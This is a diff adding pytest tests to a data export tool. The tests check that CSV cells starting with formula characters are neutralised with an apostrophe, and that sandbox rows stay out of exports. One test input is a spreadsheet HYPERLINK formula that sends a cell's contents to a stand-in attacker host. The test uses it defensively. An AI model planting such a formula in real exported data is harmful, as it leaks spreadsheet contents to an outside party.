@@ -3,6 +3,7 @@
 import csv
 import io
 import json
+import uuid
 from datetime import timedelta
 
 import pytest
@@ -120,3 +121,44 @@ def test_a_hundred_thousand_rows_stream_in_bounded_memory(app, capsys):
     with capsys.disabled():
         print(f"\nexport csv: {ROWS} rows, {size / 1e6:.1f} MB of text, peak RSS growth {growth:.1f} MB")
     assert growth < 60 and growth < size / 2e6  # far below what holding the export would take
+
+
+@pytest.mark.parametrize("value, written", [
+    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
+    ("+7 999 123-45-67", "'+7 999 123-45-67"),
+    ("-dash@example.com", "'-dash@example.com"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("plain@example.com", "plain@example.com"),
+    ("a=b", "a=b"),
+    ("", ""),
+], ids=["hyperlink", "plus", "minus", "at", "tab", "carriage return", "plain", "inner equals", "empty"])
+def test_csv_cells_never_start_a_formula(app, value, written):
+    """Whatever the group or the address holds, a spreadsheet opening the export shows it as text."""
+    insert_rows(app, [{"target": value or "x@example.com", "group_name": value}])
+    output = export(app)
+    [row] = list(csv.DictReader(io.StringIO(output)))
+    assert row["group"] == written and (not value or row["target"] == written)
+    assert output.splitlines()[1].startswith('"')  # every field quoted
+
+
+def insert_rows(app, overrides, mode="live"):
+    """Deliveries written straight into the ledger (what no webhook would accept, or another mode's)."""
+    from store.models import DELIVERIES
+    now = store_of(app).now()
+    rows = [{"id": uuid.uuid4().hex, "request_id": uuid.uuid4().hex, "item_index": 0,
+             "destination": "justclick", "target": "x@example.com", "group_name": "Main", "options": {},
+             "payload": {}, "status": "pending", "attempts": 0, "created_at": now, "updated_at": now,
+             "next_attempt_at": now, "retry_since": now, "mode": mode, **override} for override in overrides]
+    with store_of(app).writer.writing() as conn:
+        conn.execute(DELIVERIES.insert(), rows)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
+def test_sandbox_rows_are_never_exported(traffic, fmt):
+    """A live process exports live rows only, whatever a sandbox process wrote into the same ledger."""
+    insert_rows(traffic, [{"target": "sandboxed@example.com", "status": "done", "outcome": "unsubscribed"}],
+                mode="sandbox")
+    output = export(traffic, "--format", fmt)
+    assert "sandboxed@example.com" not in output and DONE_EMAIL in output
